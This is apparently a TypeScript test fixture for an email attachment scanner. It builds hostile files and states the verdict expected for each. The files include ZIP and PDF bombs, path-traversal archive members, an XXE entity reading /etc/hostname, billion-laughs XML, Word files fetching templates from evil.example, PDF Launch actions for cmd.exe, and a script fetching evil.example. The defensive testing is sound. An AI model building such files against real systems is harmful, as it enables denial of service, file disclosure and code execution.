/** Files that unpack without end, fetch, run, or lie about what they are. */
import { deflateSync } from 'node:zlib'
import { docx, p, relations, xlsx } from '../../documents/build/office.ts'
import { excel97, type Item, lockedOffice, outlookItem, word97 } from '../../documents/build/outlook.ts'
import { deflated, pdf } from '../../documents/build/pdf.ts'
import { zip } from '../../documents/build/zip.ts'
import { type MailFile, mailWithFiles } from '../../mime/mails.ts'
import { type HostileClass, MB, repeated } from './hostile-class.ts'

/** Who writes the mails of `mailWithFiles`. */
const IDA = 'ida@alderfork.example'
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const EXCEL = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const FETCHED = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
const LAUGHS = `<!DOCTYPE d [<!ENTITY a0 "ha">${repeated(20, (at) => `<!ENTITY a${at + 1} "&a${at};&a${at};&a${at};&a${at};">`).join('')}]>`

function withFile(name: string, type: string, make: () => Buffer): () => Buffer {
  return () => mailWithFiles({ name, type, bytes: make() } satisfies MailFile)
}

function within(levels: number): Item {
  return { body: 'Alder Fork', ...(levels === 0 ? {} : { files: { fwd: within(levels - 1) } }) }
}

const inPdf = (catalog: string) =>
  withFile('form.pdf', 'application/pdf', () => pdf([{ words: [[50, 700, 'Alder Fork']] }], { catalog }))

export const FILES: readonly HostileClass[] = [
  {
    name: 'a ZIP bomb',
    tries: '30 MB of zeros in 30 KB',
    answers: IDA,
    mail: withFile('a.zip', 'application/zip', () => zip([{ name: 'a.txt', content: Buffer.alloc(30 * MB) }])),
    says: ['size-limit'],
    finds: 'See attached',
  },
  {
    name: 'ZIP files in ZIP files',
    tries: 'a bomb of many layers',
    answers: IDA,
    mail: withFile('a.zip', 'application/zip', () => {
      let inner = zip([{ name: 'a.txt', content: Buffer.alloc(9 * MB) }])
      for (let layer = 0; layer < 6; layer += 1)
        inner = zip(repeated(16, (at) => ({ name: `${at}.zip`, content: inner })))
      return inner
    }),
    says: ['not-read'],
    finds: 'See attached',
  },
  {
    name: 'a ZIP file of 3,000 files',
    tries: 'make each member cost an object',
    answers: IDA,
    mail: withFile('a.zip', 'application/zip', () =>
      zip(repeated(3_000, (at) => ({ name: `${at}.txt`, content: 'x' }))),
    ),
    says: ['part-limit'],
  },
  {
    name: 'ZIP members with paths',
    tries: 'write outside of the folder when it is unpacked',
    answers: IDA,
    mail: withFile('a.zip', 'application/zip', () =>
      zip([
        { name: '../../../../etc/cron.d/x', content: 'x' },
        { name: '/abs/form.txt', content: 'Alder Fork Telephone' },
        { name: 'invoice.pdf.js', content: 'x' },
      ]),
    ),
    says: ['active-content'],
    detail: 'invoice.pdf.js',
    finds: 'Alder Fork',
  },
  {
    name: 'a Word bomb',
    tries: 'a body that unpacks to 30 MB',
    answers: IDA,
    mail: withFile('form.docx', WORD, () => docx(' '.repeat(30 * MB))),
    says: ['size-limit'],
  },
  {
    name: 'an Excel bomb',
    tries: 'strings that unpack to 30 MB',
    answers: IDA,
    mail: withFile('form.xlsx', EXCEL, () => xlsx([], ['a'.repeat(30 * MB)])),
    says: ['size-limit'],
  },
  {
    name: 'XXE',
    tries: 'a document type that names a file of ours',
    answers: IDA,
    mail: withFile('form.docx', WORD, () =>
      zip([{ name: 'word/document.xml', content: `${FETCHED}<w:p><w:t>&x;</w:t></w:p>` }]),
    ),
    says: ['damaged-file'],
    detail: 'document type',
  },
  {
    name: 'a billion laughs',
    tries: 'entities of entities',
    answers: IDA,
    mail: withFile('form.docx', WORD, () => zip([{ name: 'word/document.xml', content: `${LAUGHS}<w:t>&a20;</w:t>` }])),
    says: ['damaged-file'],
  },
  {
    name: 'a template from elsewhere',
    tries: 'a Word file that fetches its macros when it is opened',
    answers: IDA,
    mail: withFile('form.docx', WORD, () =>
      docx(p('Alder Fork'), [
        relations('word/_rels/settings.xml.rels', [
          ['r1', 'attachedTemplate', 'http://evil.example/a.dotm', 'External'],
        ]),
      ]),
    ),
    says: ['active-content'],
    finds: 'Alder Fork',
  },
  {
    name: 'macros in a Word file',
    tries: 'a vbaProject that runs when it is opened',
    answers: IDA,
    mail: withFile('form.docm', 'application/vnd.ms-word.document.macroEnabled.12', () =>
      docx(p('Alder Fork'), [{ name: 'word/vbaProject.bin', content: 'Attribut' }]),
    ),
    says: ['active-content'],
    detail: 'macros',
    finds: 'Alder Fork',
  },
  {
    name: 'macros in a Word 97 file',
    tries: 'the same in a compound file',
    answers: IDA,
    mail: withFile('form.doc', 'application/msword', () =>
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(500),
        Buffer.from('WordDocument_VBA_PROJECT', 'utf16le'),
      ]),
    ),
    says: ['active-content', 'not-read'],
    detail: 'macros',
  },
  {
    name: 'scripts in a PDF file',
    tries: 'JavaScript when it is opened',
    answers: IDA,
    mail: inPdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    says: ['active-content'],
    detail: 'scripts',
    finds: 'Alder Fork',
  },
  {
    name: 'a PDF file that starts a program',
    tries: 'a Launch action',
    answers: IDA,
    mail: inPdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    says: ['active-content'],
    detail: 'start other programs',
    finds: 'Alder Fork',
  },
  {
    name: 'names written in hexadecimal in a PDF file',
    tries: 'hide a Launch action from who looks for the word',
    answers: IDA,
    mail: inPdf('/OpenAction << /S /L#61unch /F (cmd.exe) >>'),
    says: ['active-content'],
    detail: 'start other programs',
    finds: 'Alder Fork',
  },
  {
    name: 'a file inside a PDF file',
    tries: 'carry a program past whoever looks at names',
    answers: IDA,
    mail: inPdf(
      '/Names << /EmbeddedFiles << /Names [(run.exe) << /Type /Filespec /F (run.exe) /EF << /F 1 0 R >> >>] >> >>',
    ),
    says: ['not-read'],
    detail: 'files inside are not opened: run.exe',
    finds: 'Alder Fork',
  },
  {
    name: 'a PDF page that is its own parent',
    tries: 'a loop in the tree of pages',
    answers: IDA,
    mail: withFile('form.pdf', 'application/pdf', () =>
      Buffer.from(pdf([{}]).toString('latin1').replace('/Kids [5 0 R]', '/Kids [2 0 R]'), 'latin1'),
    ),
    says: ['damaged-file'],
  },
  {
    name: 'a PDF page that unpacks to 100 MB',
    tries: 'a stream of spaces',
    answers: IDA,
    mail: withFile('form.pdf', 'application/pdf', () => pdf([deflated(Buffer.alloc(100 * MB, 0x20))])),
    says: ['size-limit'],
  },
  {
    name: 'a PDF cross-reference loop',
    tries: 'a table whose previous one is itself',
    answers: IDA,
    mail: withFile('form.pdf', 'application/pdf', () => {
      const file = pdf([{ words: [[50, 700, 'Alder Fork']] }]).toString('latin1')
      const at = file.lastIndexOf('xref', file.lastIndexOf('startxref') - 1)
      return Buffer.from(file.replace(/trailer\s*<</, `trailer << /Prev ${Math.max(at, 0)}`), 'latin1')
    }),
    says: [],
  },
  {
    name: 'a PDF file of 40,000 pages',
    tries: 'make each page cost time',
    answers: IDA,
    mail: withFile('form.pdf', 'application/pdf', () => {
      const file = pdf([{}]).toString('latin1')
      return Buffer.from(
        file.replace('/Kids [5 0 R] /Count 1', `/Kids [${'5 0 R '.repeat(40_000)}] /Count 40000`),
        'latin1',
      )
    }),
    says: [],
  },
  {
    name: 'a PDF file that needs a password',
    tries: 'keep everybody from looking inside',
    answers: IDA,
    mail: withFile('form.pdf', 'application/pdf', () =>
      pdf([{}], {
        trailer: `/ID [<00><00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`,
      }),
    ),
    says: ['encrypted'],
  },
  {
    name: 'a Word file that needs a password',
    tries: 'the same in a compound file around the package',
    answers: IDA,
    mail: withFile('form.docx', WORD, lockedOffice),
    says: ['encrypted'],
  },
  {
    name: 'an Excel file that needs a password',
    tries: 'the same for a workbook',
    answers: IDA,
    mail: withFile('form.xlsx', EXCEL, lockedOffice),
    says: ['encrypted'],
  },
  {
    name: 'a Word 97 file that needs a password',
    tries: 'the same by a flag in its head',
    answers: IDA,
    mail: withFile('form.doc', 'application/msword', () => word97(true)),
    says: ['encrypted'],
  },
  {
    name: 'an Excel 97 file that needs a password',
    tries: 'the same by a record',
    answers: IDA,
    mail: withFile('form.xls', 'application/vnd.ms-excel', () => excel97(true)),
    says: ['encrypted'],
  },
  {
    name: 'Outlook messages in each other',
    tries: 'recurse through saved messages',
    answers: IDA,
    mail: withFile('fwd.msg', 'application/vnd.ms-outlook', () => outlookItem(within(60))),
    says: ['depth-limit'],
    finds: 'Alder Fork',
  },
  {
    name: 'an Outlook message whose sectors are a loop',
    tries: 'a chain that never ends',
    answers: IDA,
    mail: withFile('fwd.msg', 'application/vnd.ms-outlook', () => {
      const bytes = outlookItem({ body: 'x'.repeat(100_000) })
      return bytes.fill(0, bytes.length - 1024)
    }),
    says: ['damaged-file'],
  },
  {
    name: 'a ZIP file that needs a password',
    tries: 'the same for an archive',
    answers: IDA,
    mail: withFile('form.zip', 'application/zip', () => zip([{ name: 'form.pdf', content: 'x', isEncrypted: true }])),
    says: ['encrypted'],
  },
  {
    name: 'a program that says it is a PDF file',
    tries: 'a type that is not what the bytes are',
    answers: IDA,
    mail: withFile('form.pdf', 'application/pdf', () =>
      Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(2_000, 7)]),
    ),
    says: ['active-content'],
    detail: 'a program',
  },
  {
    name: 'two formats in one file',
    tries: 'a PDF file that is a ZIP file too',
    answers: IDA,
    mail: withFile('form.pdf', 'application/pdf', () =>
      Buffer.concat([pdf([{ words: [[50, 700, 'Alder Fork']] }]), zip([{ name: 'a.js', content: 'x' }])]),
    ),
    says: [],
    finds: 'Alder Fork',
  },
  {
    name: 'a picture of 60,000 by 60,000',
    tries: 'a canvas of 14 GB out of 100 bytes',
    answers: IDA,
    mail: withFile('scan.png', 'image/png', () => {
      const head = Buffer.from('89504e470d0a1a0a0000000d494844520000ea600000ea600802000000', 'hex')
      return Buffer.concat([head, Buffer.alloc(4), deflateSync(Buffer.alloc(1_000))])
    }),
    says: ['size-limit'],
  },
  {
    name: 'a web page as a file',
    tries: 'scripts that run when it is opened',
    answers: IDA,
    mail: withFile('form.html', 'text/html', () =>
      Buffer.from('<p>Alder Fork</p><script>fetch("//evil.example")</script>'),
    ),
    says: ['active-content'],
    detail: 'script',
    finds: 'Alder Fork',
    hides: ['fetch('],
  },
  {
    name: 'a drawing with scripts',
    tries: 'an SVG file that runs where it is shown',
    answers: IDA,
    mail: withFile('logo.svg', 'image/svg+xml', () =>
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ),
    says: ['active-content'],
    detail: 'script',
  },
]
